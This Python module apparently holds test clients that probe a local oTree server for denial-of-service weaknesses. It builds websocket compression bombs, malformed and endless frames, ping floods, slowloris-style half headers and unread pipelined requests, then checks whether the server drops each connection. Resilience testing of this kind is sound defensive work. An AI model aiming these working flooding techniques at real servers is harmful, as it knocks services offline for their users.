"""Clients that try to block the server: each opens connections, sends what it has, and keeps them open until it is released."""

from __future__ import annotations

import base64
import os
import socket
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field

NOBODY = "/auto_advance?participant_code=nobody&page_index=0"
"""A websocket to which oTree sends something at once, whoever asks."""
COMPRESSED = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n"
TEXT, CONTINUED, PING = 1, 0, 9
LAST, RESERVED = 0x80, 0x40
QUEUE = 60
"""Requests sent at the same moment as a websocket, which keep the server busy until its frames have been read."""
HANDSHAKE_SECONDS = 60.0
SENDING_SECONDS = 1.0
"""How long a client goes on sending to a server that reads nothing."""


@dataclass
class Held:
    """Open sockets of an attacker. They read nothing unless asked to."""

    port: int
    sockets: list[socket.socket] = field(default_factory=list)

    def connect(self, receive_buffer: int | None = None) -> socket.socket:
        line = socket.socket()
        self.sockets.append(line)
        if receive_buffer:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        line.settimeout(HANDSHAKE_SECONDS)
        line.connect(("127.0.0.1", self.port))
        return line

    def open_websocket(self, address: str = NOBODY, headers: str = "") -> socket.socket:
        """One whose handshake was answered, of which no more was read."""
        line = self.connect(20_000)
        line.sendall(handshake(self.port, address, headers))
        line.recv(400)
        return line

    def close(self) -> None:
        for line in self.sockets:
            line.close()


def handshake(port: int, address: str = NOBODY, headers: str = "") -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    fields = (
        f"Host: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
    )
    return f"GET {address} HTTP/1.1\r\n{fields}{headers}\r\n".encode()


def frame(kind: int, payload: bytes, flags: int = LAST) -> bytes:
    """A masked frame of a client; the mask is zero, which is allowed."""
    size = len(payload)
    length = (
        bytes([0x80 | size]) if size < 126 else b"\xfe" + size.to_bytes(2, "big") if size < 65536 else b"\xff" + size.to_bytes(8, "big")
    )
    return bytes([flags | kind]) + length + bytes(4) + payload


def bomb(size: int = 1 << 20) -> bytes:
    """This many zeros as permessage-deflate sends them, in a thousandth of the space."""
    packer = zlib.compressobj(wbits=-15)
    packed = packer.compress(bytes(size)) + packer.flush(zlib.Z_SYNC_FLUSH)
    return frame(TEXT, packed.removesuffix(b"\x00\x00\xff\xff"), LAST | RESERVED)


def send_all(line: socket.socket, what: bytes) -> None:
    """As much of it as the other side takes."""
    line.settimeout(SENDING_SECONDS)
    with suppress(OSError):
        line.sendall(what)


def is_ended(line: socket.socket, seconds: float) -> bool:
    """Whether the server ends this connection within this many seconds."""
    line.settimeout(seconds)
    try:
        while line.recv(65536):
            pass
    except TimeoutError:
        return False
    except OSError:
        return True
    return True


@contextmanager
def holding(port: int) -> Iterator[Held]:
    held = Held(port)
    try:
        yield held
    finally:
        held.close()


def websockets_that_send(what: bytes, headers: str = "") -> Callable[[Held, int], None]:
    def attack(held: Held, number: int) -> None:
        lines = [held.open_websocket(headers=headers) for _ in range(number)]
        for line in lines:
            send_all(line, what)

    return attack


def broken_frames_in_a_queue(held: Held, number: int) -> None:
    """Each breaks the protocol before it is its turn: requests sent at the same moment keep the server busy until then."""
    crowd = [held.connect() for _ in range(QUEUE)]
    lines = [held.connect() for _ in range(number)]
    for line in crowd:
        line.sendall(b"GET /login HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    for line in lines:
        line.sendall(handshake(held.port))
    for line in lines:
        line.recv(400)
        send_all(line, b"\xff" * 200_000)


def unread_pongs_in_a_queue(held: Held, number: int) -> None:
    """Pings whose answers nobody reads, so that nothing more can be sent to this client."""
    crowd = [held.connect() for _ in range(QUEUE)]
    lines = [held.connect(20_000) for _ in range(number)]
    for line in crowd:
        line.sendall(b"GET /login HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    for line in lines:
        line.sendall(handshake(held.port))
    for line in lines:
        line.recv(400)
        send_all(line, frame(PING, b"x" * 125) * 60_000)


def half_headers(held: Held, number: int) -> None:
    for _ in range(number):
        with suppress(OSError):
            held.connect().sendall(b"GET /login HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")


def unread_pages(held: Held, number: int) -> None:
    """Requests by the hundred on each connection, whose answers nobody reads."""
    for _ in range(number):
        send_all(held.connect(4096), b"GET /login HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 200)


ATTACKS: Mapping[str, tuple[Callable[[Held, int], None], int]] = {
    "broken frames": (broken_frames_in_a_queue, 3),
    "unread pongs": (unread_pongs_in_a_queue, 3),
    "compression bombs": (websockets_that_send(bomb() * 10, COMPRESSED), 40),
    "reserved bits": (websockets_that_send(bomb() * 10), 40),
    "endless message": (websockets_that_send(frame(TEXT, b"x" * 4000, 0) + frame(CONTINUED, b"x" * 4000, 0) * 500), 40),
    "empty pieces": (websockets_that_send(frame(TEXT, b"", 0) + frame(CONTINUED, b"", 0) * 50_000), 10),
    "huge frame": (websockets_that_send(frame(TEXT, b"x" * 4_000_000)), 10),
    "messages": (websockets_that_send(frame(TEXT, b"{}") * 20_000), 10),
    "half headers": (half_headers, 600),
    "unread pages": (unread_pages, 20),
}
"""What is tried, with how many connections."""
MANY: Sequence[str] = ("half headers",)
"""Of these, the larger run opens 2,000."""
